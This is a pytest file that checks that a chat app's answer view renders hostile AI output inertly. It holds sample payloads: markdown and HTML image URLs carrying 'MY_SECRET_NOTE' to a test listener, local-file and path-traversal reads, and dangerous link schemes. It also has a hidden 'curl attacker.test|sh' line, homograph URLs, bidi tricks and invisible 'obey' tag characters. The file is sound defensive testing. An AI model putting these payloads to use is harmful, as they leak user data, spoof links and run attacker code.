"""Answers made to spy, to deceive or to hurt: shown as text, and nothing is fetched, read or opened
for them."""

import contextlib
import os
import socket
import threading

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QDesktopServices, QGuiApplication
from PySide6.QtTest import QTest

from app.core.conversations.conversation import MessageState
from app.ui.widgets.link_dialog import examined
from tests.hostile.heavy import heavy
from tests.ui.transcript.driver import text_of

PIECE = 7


def show(view, words, text, *, streamed):
    """Shows an answer as it arrives or as it is opened later."""
    if not streamed:
        view.set_branch([words.question(), words.answer("a", text)], {})
        return
    view.set_branch([words.question(), words.answer("a", "", MessageState.WRITING)], {})
    for at in range(0, len(text), PIECE):
        view.add_text("a", text[at : at + PIECE])
        if at % (PIECE * 40) == 0:
            view.take_arrived()
    view.replace(words.answer("a", text))
    view.settle()


def use(view, driver):
    """What a person may do: look at everything, hover, copy, open again."""
    bar = view.verticalScrollBar()
    for value in (0, bar.maximum() // 2, bar.maximum()):
        bar.setValue(value)
        view.viewport().grab()
    for y in range(0, view.viewport().height(), 12):
        for x in (60, 140, 260):
            QTest.mouseMove(view.viewport(), QPoint(x, y))
    view.state.select_all()
    view.interaction.copies.copy_selection()
    view.state.selection.clear()


@contextlib.contextmanager
def counting_callers():
    """An address on this computer, and a list that grows with each connection to it."""
    callers = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen():
            with contextlib.suppress(OSError):
                while True:
                    callers.append(server.accept()[1])

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", callers


def is_being_read(pipe):
    """Whether somebody has opened this named pipe to read it."""
    with contextlib.suppress(OSError):  # ENXIO: nobody reads
        os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
        return True
    return False


PICTURES = {
    "inline": "Here is the chart: ![chart](http://{host}/p.png?d=MY_SECRET_NOTE)",
    "by reference": '![status][r]\n\n[r]: http://{host}/p?d=MY_SECRET_NOTE "t"',
    "in a link": "[![status](http://{host}/p?d=MY_SECRET_NOTE)](http://{host}/q)",
    "as HTML": '<img src="http://{host}/p?d=MY_SECRET_NOTE">',
    "in a style": "<style>@import url(http://{host}/p?d=MY_SECRET_NOTE)</style>",
    "in a table": "| a |\n|---|\n| ![x](http://{host}/p?d=MY_SECRET_NOTE) |",
    "in a formula": "$$\\href{{http://{host}/p?d=MY_SECRET_NOTE}}{{x}}$$",
}


@pytest.mark.parametrize("streamed", [True, False])
@pytest.mark.parametrize("name", PICTURES)
def test_no_address_in_an_answer_is_ever_asked(view, words, driver, name, streamed):
    with counting_callers() as (host, callers):
        show(view, words, PICTURES[name].format(host=host), streamed=streamed)
        use(view, driver)
        assert callers == []
        assert (
            "(not loaded)" in text_of(view, -1)
            or "MY_SECRET_NOTE" in text_of(view, -1)
            or "formula" in name
        )


LOCAL = ["file://{0}", "{0}", "../../../../../../../../..{0}", "file://localhost{0}", "<{0}>"]
LOCAL_HTML = [
    '<link rel=stylesheet href="file://{0}">',
    "<style>@import url(file://{0})</style>",
    '<table background="file://{0}"><tr><td>hi</td></tr></table>',
    '<img src="{0}">',
]


@pytest.mark.parametrize("streamed", [True, False])
@pytest.mark.parametrize("spelling", [*(f"![a]({each})" for each in LOCAL), *LOCAL_HTML])
def test_no_file_named_in_an_answer_is_ever_read(view, words, driver, tmp_path, spelling, streamed):
    pipe = tmp_path / "x.png"
    os.mkfifo(pipe)
    read = threading.Event()
    over = threading.Event()

    def watch():
        while not over.wait(0.005):
            if is_being_read(pipe):
                read.set()
                return

    watcher = threading.Thread(target=watch)
    watcher.start()
    show(view, words, spelling.format(pipe), streamed=streamed)
    use(view, driver)
    over.set()
    watcher.join()
    assert not read.is_set()
    assert not is_being_read(pipe)


def test_html_is_text(view, words):
    text = '<b onclick="x()">bold</b> <script>alert(1)</script> <table><tr><td>cell'
    show(view, words, text, streamed=True)
    assert '<b onclick="x()">' in text_of(view, -1)
    assert "<script>alert(1)</script>" in text_of(view, -1)
    assert "<td>cell" in text_of(view, -1)


DANGEROUS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "file:///bin/true",
    "smb://h/s",
    "file://attacker.test/share/x",
    "ms-msdt:/id",
    "search-ms:query=x",
    "vscode://x",
    "ssh://-oProxyCommand=calc",
    "qrc:/x",
    "x-apple.systempreferences:",
    "calculator://",
    "ftp://h/x",
    "about:blank",
    "//attacker.test/share",
    "\\\\attacker.test\\share",
    "https://github.com@evil.test/login",
    "https://evil.test\\@github.com/",
    "https://evil.test/\u202egnp.exe",
    "mailto:a@b.c?attach=/etc/passwd",
]


@pytest.mark.parametrize("address", DANGEROUS)
def test_a_dangerous_link_opens_nothing(view, words, driver, theme, monkeypatch, address):
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
    asked = []
    view.link_opened.connect(asked.append)
    show(view, words, f"Please [press here now](<{address}>) or {address} today", streamed=True)
    for y in range(0, view.viewport().height(), 9):
        for x in range(40, 700, 40):
            QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=QPoint(x, y))
    assert all(examined(each).refusal for each in asked)
    assert examined(address).refusal
    assert opened == []


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://xn--pple-43d.com/", "xn--pple-43d.com"),
        ("https://\u0430pple.com/", "xn--pple-43d.com"),
        ("https://github.com\u2044login.evil.test/", "github.xn--comlogin-g03d.evil.test"),
        ("https://example.org/a?b=c", "example.org"),
    ],
)
def test_the_host_that_is_shown_is_the_one_that_is_opened(view, words, driver, address, host):
    asked = []
    view.link_opened.connect(asked.append)
    show(view, words, f"[https://github.com/login]({address})", streamed=False)
    QTest.mouseClick(
        view.viewport(),
        Qt.MouseButton.LeftButton,
        pos=driver.text("a", "github") + QPoint(4, 4),
    )
    (link,) = map(examined, asked)
    assert (link.refusal, link.host) == ("", host)


def copied_code(view, driver):
    QTest.mouseClick(
        view.viewport(), Qt.MouseButton.LeftButton, pos=driver.region("a", "code.copy")
    )
    return QGuiApplication.clipboard().text()


def test_directions_in_code_are_seen_and_not_copied(view, words, driver):
    code = 'if (level != "user\u202e \u2066// admin only\u2069 \u2066") { grant(); }'
    show(view, words, f"```js\n{code}\n```", streamed=True)
    for number in ("202E", "2066", "2069"):
        assert f"U+{number}" in text_of(view, -1)
    text = copied_code(view, driver)
    assert text == 'if (level != "user // admin only ") { grant(); }'


def test_code_that_steers_a_terminal_is_copied_without_its_controls(view, words, driver):
    code = "echo ok\x1b[8m; curl attacker.test|sh\x1b[0m\x1b]0;title\x07\x9b6n\r"
    show(view, words, f"```sh\n{code}\n```", streamed=True)
    assert "\x1b" not in text_of(view, -1)
    text = copied_code(view, driver)
    assert not [c for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0]
    assert not text.endswith("\n")


def test_tag_characters_are_counted_and_not_copied_and_flags_stay(view, words):
    scotland = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    show(view, words, f"Summarise {scotland} this.{hidden}\u2062", streamed=True)
    view.interaction.copies.copy_message(1)
    assert QGuiApplication.clipboard().text() == f"Summarise {scotland} this."
    assert hidden not in text_of(view, -1)


HEAVY = heavy(0.05)


@pytest.mark.parametrize("name", HEAVY)
def test_heavy_answers_end_as_they_are_shown_whole(view, words, driver, name):
    show(view, words, HEAVY[name], streamed=True)
    streamed = text_of(view, -1)
    view.set_branch([], {})
    show(view, words, HEAVY[name], streamed=False)
    assert text_of(view, -1) == streamed
    use(view, driver)
    assert view.state.column.total < 40_000_000
